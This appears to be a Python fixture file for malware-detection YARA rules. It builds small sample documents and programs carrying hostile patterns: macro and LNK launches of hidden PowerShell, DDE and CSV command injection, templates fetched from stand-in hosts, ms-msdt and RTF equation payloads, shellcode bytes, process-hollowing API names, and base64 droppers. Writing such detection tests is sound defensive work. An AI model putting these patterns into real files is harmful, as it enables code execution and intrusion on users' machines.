# SPDX-License-Identifier: Apache-2.0
"""Fixtures of document.yar and executable.yar."""

import struct

from sample import add, base64_like, elf, front, lnk, pe, t, whole, wide

add("Office_Vba_AutoOpenShell", "vba_autoopen.bas", """
Attribute VB_Name = "x"
Sub Auto¦Open()
Exit Sub
Sh¦ell "power¦shell -w hidden -c x"
""", ("AutoOpen", "AutoOpal"), ("-w hidden -c x", "x.ps1"), ("Attribute VB_Name", "Attribute VB_Nama"))

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(64)
add("Office_Ole_UrlDownload", "ole_url_download.doc",
    OLE + wide("_VBA_¦PROJECT") + b"\0" + t("AutoOp¦en") + b"\0" + t("URLDownload¦ToFileA") + b"\0" + t("url¦mon"),
    ("URLDownloadToFileA", "URLDownloadToCache"), ("AutoOpen", "ManuOpen"), (b"\xd0\xcf\x11\xe0", b"\xd0\xcf\x11\xe1"))

add("Office_Dde_Command", "office_dde.xml",
    '<?xml version="1.0"?><w:instrText xml:space="preserve"> DDEA¦UTO cm¦d.exe "/c x"</w:instrText>\n',
    ("DDEAUTO", "DDEMANU"), ("cmd.exe", "cma.exe"), front(" "))

add("Office_Csv_Command", "csv_command.csv",
    "=cm¦d|' /C power¦shell x'!A¦0\nx\n",
    ("powershell", "calculator"), ("'!A0", "'?A0"))

RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/rel¦ationships">'
add("Office_Template_BareAddress", "template_address.rels",
    RELS + '<Relationship Id="r1" Type="http://schemas.invalid/office/attachedTem¦plate" '
    'Target="http://192.0.2.10/x.dotm" TargetMode="Exter¦nal"/>',
    ("192.0.2.10", "host.invalid"), ("attachedTemplate", "attachedSchema"))

add("Office_Relation_HtmlObject", "relation_html.rels",
    RELS + '<Relationship Id="r1" Type="http://schemas.invalid/office/oleObj¦ect" '
    'Target="mht¦ml:http://host.invalid/x.html" TargetMode="External"/>',
    ("mhtml:", "xhtml:"), ("/oleObject", "/image"))

add("Exploit_Html_DiagnosticHandler", "diagnostic_handler.html",
    "<script>throw 0; x = \"ms-m¦sdt:/id PCWDiag¦nostic /skip force /param 'IT_Browse¦ForFile=$(x)'\"</script>\n",
    ("PCWDiagnostic", "NetDiagnostic"), ("$(x)", "x"), front("x"))

add("Rtf_Equation_Object", "rtf_equation.rtf",
    "{\\rtf1{\\object\\objemb\\obj¦update{\\*\\obj¦data 01050000457175617469¦6f6e2e33}}}",
    ("\\objupdate", "\\objupdates"[:-2] + "a"), ("2e33", "2e34"), ("{\\rt", "{\\xt"))

add("Rtf_OddHeader_Object", "rtf_odd_header.rtf",
    "{\\rt{\\object\\objemb\\obj¦update{\\*\\obj¦data 0105}}}",
    ("{\\rt{", "{\\rtf1{"), ("\\objupdate", "\\objupkeep"), ("\\objdata", "\\objdate"))

add("Rtf_LinkedObject_Url", "rtf_linked_url.rtf",
    "{\\rtf1{\\object\\objautlink\\obj¦update{\\*\\objdata 4f4c45324c69¦6e6b 6800740074007000¦3a002f002f00}}}",
    ("6e6b", "6e6c"), ("3a002f002f00", "3a002f003f00"))

add("Lnk_PowerShell_Hidden", "lnk_powershell.lnk",
    lnk("..\\power¦shell.exe", "-w hidd¦en -c x"),
    ("-w hidden", "-w normal"), ("powershell", "notepadxxx"),
    whole("without the shortcut's header", wide("..\\power¦shell.exe -w hidd¦en -c x")))

add("Lnk_Mshta_Address", "lnk_mshta.lnk",
    lnk("msh¦ta.exe http://host.invalid/x"),
    ("mshta", "mspub"), ("http://", "file://"))

add("Lnk_EmbeddedExecutable", "lnk_executable.lnk",
    lnk("x") + bytes(4096) + t("This program can¦not be run in DOS mode"),
    ("cannot be run", "can be run"),
    whole("of ordinary size", lnk("x") + t("This program can¦not be run in DOS mode")))

add("Pdf_Launch_Command", "pdf_launch.pdf",
    "%PDF-1.4\n1 0 obj << /S /Lau¦nch /Win << /F (cm¦d.exe) /P (x) >> >>\n",
    ("/Launch", "/Latch"), ("(cmd.exe)", "(cmd.txt)"), front("x"))

add("Pdf_Script_HeapSpray", "pdf_heap_spray.pdf",
    "%PDF-1.4\n1 0 obj << /OpenAct¦ion << /JavaScr¦ipt (throw 0; unesc¦ape('%u9090%u9090'); Collab.get¦Icon() >> >>\n",
    ("%u9090%u9090", "%20%20"), ("Collab.getIcon", "Collab.getName"), ("/OpenAction", "/OpenPage"))

ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
OBJECT = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
add("OneNote_EmbeddedScript", "onenote_script.one",
    ONE + OBJECT + t('CreateObj¦ect("WScript.Sh¦ell")'),
    ("WScript.Shell", "WScript.Shall"), (b"\x0b\x7a\x9e\xac", b"\x0b\x7a\x9e\xad"), (b"\xe4\x52", b"\xe4\x53"))

# --- programs -----------------------------------------------------------------------------------

HOLLOW = ("NtUnmapViewOf¦Section", "WriteProcess¦Memory", "SetThreadCon¦text", "ResumeTh¦read", "CreateProc¦essA")
add("Loader_PE_Hollowing", "loader_hollowing.exe", pe(*HOLLOW),
    ("NtUnmapViewOfSection", "NtReadVirtualMemory!"), ("ResumeThread", "ResumeThreat"), ("PE\0\0", "PX\0\0"),
    whole("with its maker's name", pe(*HOLLOW) + wide("Company¦Name")))

CODE64 = bytes.fromhex("fc4883e4f0e8c00000004151" + "4150525156" + "4831d265488b5260")
add("Loader_PE_RemoteThreadShellcode", "loader_remote_thread.exe",
    pe(CODE64, "VirtualAll¦ocEx", "CreateRemote¦Thread"),
    (CODE64[:6], CODE64[:5] + b"\xe9"), ("VirtualAlloc", "VirtualAllot"), ("MZ", "MY"))

add("Shellcode_Windows_BlockApi", "shellcode_block_api.bin", CODE64,
    (b"\x65\x48", b"\x64\x48"), front(b"\x90"))

add("Implant_PE_ReflectiveLoader", "implant_reflective.dll",
    pe("Reflective¦Loader", r"\\.\pi¦pe\x", "ImpersonateNamedPipe¦Client", "CreateRemote¦Thread"),
    ("ReflectiveLoader", "ReflectiveLeader"), (r"\pipe" + "\\", r"\pope" + "\\"), ("MZ", "MY"))

BARE = bytearray(elf(2, "PROT_EXEC|PROT_WRI¦TE failed."))
BARE[60:64] = bytes(4)
add("Packer_Elf_UpxTampered", "upx_tampered", bytes(BARE),
    ("PROT_WRITE failed", "PROT_WRITE failes"),
    whole("with the packer's mark", bytes(BARE) + t("UP¦X!")),
    whole("with sections", elf(2, "PROT_EXEC|PROT_WRI¦TE failed.")))

MARK = t("UP¦X!") + b"\x0d\x09"
add("Packer_PE_UpxRenamed", "upx_renamed.exe", pe(MARK),
    (MARK, MARK[:4] + b"\x0d\x08"), whole("with the packer's section names", pe("UP¦X0", MARK)), ("MZ", "MY"))

STAGE = bytes.fromhex("6a2958" + "99" + "6a025f" + "6a015e0f05")
TINY = bytearray(elf(2)[:64])
TINY[54:56], TINY[56:58], TINY[58:64] = struct.pack("<H", 56), struct.pack("<H", 1), bytes(6)
TINY = bytes(TINY) + struct.pack("<II", 1, 7) + bytes(48) + STAGE
add("Loader_Elf_TinyStager", "elf_tiny_stager", TINY,
    (struct.pack("<II", 1, 7), struct.pack("<II", 1, 5)), (b"\x6a\x29\x58", b"\x6a\x2a\x58"))

PROGRAM = pe()
add("Dropper_Image_EmbeddedProgram", "image_program.png",
    b"\x89PNG\r\n\x1a\n" + bytes(8) + PROGRAM,
    ("MZ", "MY"), ("PE\0\0", "PX\0\0"), ("\x89PNG".encode("latin-1"), "\x88PNG".encode("latin-1")))

add("Dropper_Script_Base64Program", "script_base64_program.ps1",
    "exit\r\n[IO.File]::WriteAll¦Bytes('x',[Convert]::FromBase64¦String('TVqQAAMAA¦AAEAAAA" + base64_like(80) + "'))\r\n",
    ("TVqQ", "TVqR"), ("WriteAllBytes", "WriteAllLines"), ("FromBase64String", "FromBase32String"))

add("Dropper_Shell_Base64Elf", "shell_base64_elf.sh",
    "#!/bin/sh\nexit 0\necho f0VM¦RgIBAQ" + base64_like(80) + " | base64 -d > /tmp/.x; chm¦od +x /tmp/.x\n",
    ("f0VMRg", "f0VMRh"), ("base64 -d", "base64 -w"), ("#!", "##"))

add("Loader_Python_Shellcode", "loader_python_shellcode.py", r"""
raise SystemExit
c = b64dec¦ode("x"); p = ctypes.windll.kern¦el32.VirtualAl¦loc(0); ctypes.windll.kern¦el32.RtlMove¦Memory(p, c)
ctypes.windll.kern¦el32.Create¦Thread(0)
""", ("VirtualAlloc(", "VirtualAllot("), ("RtlMoveMemory", "RtlZeroMemory"), (".CreateThread", ".CreateThreat"))

add("Loader_Python_PackedExec", "loader_python_packed.py",
    "raise SystemExit\nex¦ec(zlib.decom¦press(base64.b64dec¦ode(b'" + base64_like(210) + "')))\n",
    ("exec(", "exek("), ("zlib.", "glib."),
    whole("with a short literal", "raise SystemExit\nex¦ec(zlib.decom¦press(base64.b64dec¦ode(b'" + base64_like(180) + "')))\n"))
